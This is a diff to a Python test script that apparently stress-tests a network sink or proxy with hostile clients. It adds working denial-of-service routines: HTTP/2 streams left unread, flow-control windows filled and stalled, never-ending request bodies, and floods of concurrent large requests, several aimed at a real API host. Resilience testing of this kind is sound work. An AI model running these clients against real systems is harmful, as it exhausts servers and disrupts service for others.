@@ -1,5 +1,5 @@
 """Hostile clients of one bottle, and the pulse of another. Each prints what it has reached, one line."""
-import resource, socket, ssl, struct, sys, time
+import resource, socket, ssl, struct, sys, threading, time
 
 HOST = "sink.example"
 
@@ -153,11 +153,124 @@ def h2(flood, count):
     say("sent", sent, "ended" if ended or goodbye else "open")
 
 
-def stall(count, seconds):
+def literal(index, text):
+    """A header that is not indexed, by the number of its name in the static table."""
+    return (bytes([index]) if index < 15 else bytes([15, index - 15])) + bytes([len(text)]) + text.encode()
+
+
+def h2_open(host, window):
+    """Opens a connection of HTTP/2 whose answers may have a window each; gets it, and what may be sent on one stream of it."""
+    context = ssl.create_default_context()
+    context.set_alpn_protocols(["h2"])
+    s = context.wrap_socket(socket.create_connection((host, 443), 30), server_hostname=host)
+    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, window)))
+    s.sendall(frame(8, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
+    # Its settings, and what it adds to the connection's window, until it has acknowledged ours.
+    said, at, stream, connection, known = b"", 0, 65535, 65535, False
+    while not known:
+        more = s.recv(4096)
+        if not more:
+            break
+        said += more
+        while at + 9 <= len(said) and at + 9 + int.from_bytes(said[at : at + 3], "big") <= len(said):
+            length, kind, flags = int.from_bytes(said[at : at + 3], "big"), said[at + 3], said[at + 4]
+            payload = said[at + 9 : at + 9 + length]
+            known |= kind == 4 and flags & 1 == 1
+            for n in range(0, length if kind == 4 else 0, 6):
+                name, value = struct.unpack(">HI", payload[n : n + 6])
+                stream = value if name == 4 else stream
+            if kind == 8:
+                connection += int.from_bytes(payload, "big")
+            at += 9 + length
+    return s, stream, connection
+
+
+def unread(count, streams, seconds):
+    """Answers without an end over HTTP/2, with every window open, none of which is read. Prints how many connections stand."""
+    open_ = []
+    for _ in range(int(count)):
+        s, _, _ = h2_open(HOST, 2**31 - 1)
+        head = b"\x82\x87" + literal(4, "/endless") + literal(1, HOST)
+        for n in range(int(streams)):
+            s.sendall(frame(1, 5, 2 * n + 1, head))
+        open_.append(s)
+    say("begun", len(open_))
+    time.sleep(float(seconds))
+    say("open", sum(not s.recv(1) == b"" for s in open_))
+
+
+def ahead(count, seconds):
+    """Bodies over HTTP/2 that are sent as far as the windows go, and wait for their place. Prints how much was sent."""
+    host, open_, sent = "api.anthropic.com", [], 0
+    for _ in range(int(count)):
+        s, stream, connection = h2_open(host, 65535)
+        head = b"\x83\x87" + literal(4, "/v1/messages") + literal(1, host) + literal(28, str(32 << 20))
+        left, n = connection, 1
+        while left:
+            s.sendall(frame(1, 4, n, head))
+            mine = min(stream, left)
+            for at in range(0, mine, 16384):
+                s.sendall(frame(0, 0, n, b"x" * min(16384, mine - at)))
+            left, n, sent = left - mine, n + 2, sent + mine
+        open_.append(s)
+    say("begun", len(open_))
+    time.sleep(float(seconds))
+    say("sent", sent)
+
+
+def bodies(kind, count, size, seconds):
+    """Large bodies for a model, all at once, none of which ends. Prints how much of them was taken."""
+    host, sent, open_ = "api.anthropic.com", [0] * int(count), []
+    head = f"POST /v1/messages HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
+    piece = b"[1]," * (1 << 14)
+
+    def send(n, s):
+        try:
+            while sent[n] + len(piece) < int(size):
+                s.sendall(b"%x\r\n%b\r\n" % (len(piece), piece) if kind == "chunked" else piece)
+                sent[n] += len(piece)
+        except OSError:
+            pass
+
+    for n in range(int(count)):
+        s = tls(host)
+        how = "Transfer-Encoding: chunked" if kind == "chunked" else f"Content-Length: {size}"
+        s.sendall((head + how + "\r\n\r\n").encode())
+        open_.append(s)
+        threading.Thread(target=send, args=(n, s), daemon=True).start()
+    before = -1
+    while before != sum(sent):
+        before = sum(sent)
+        time.sleep(1)
+    say("begun", len(open_))
+    time.sleep(float(seconds))
+    say("sent", sum(sent))
+
+
+def asks(count, size):
+    """Large bodies for a model, all at once, as a busy agent sends them. Prints how many were answered."""
+    body = b'{"model":"m","max_tokens":9,"stream":true,"messages":[{"role":"user","content":"%b"}]}' % (b"x" * int(size))
+    host, answers = "api.anthropic.com", []
+
+    def ask():
+        s = tls(host)
+        s.sendall(
+            f"POST /v1/messages HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
+            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
+        )
+        answers.append(s.recv(12)[9:])
+
+    threads = [threading.Thread(target=ask) for _ in range(int(count))]
+    [thread.start() for thread in threads]
+    [thread.join() for thread in threads]
+    say("answered", answers.count(b"200"), "of", count)
+
+
+def stall(count, seconds, port="80"):
     """Many answers without an end, none of which is read. Prints how many were asked for."""
     asked = []
     for _ in range(int(count)):
-        s = socket.create_connection((HOST, 80), 30)
+        s = tls(HOST) if port == "443" else socket.create_connection((HOST, 80), 30)
         s.sendall(f"GET /endless HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
         asked.append(s)
     say("begun", len(asked))
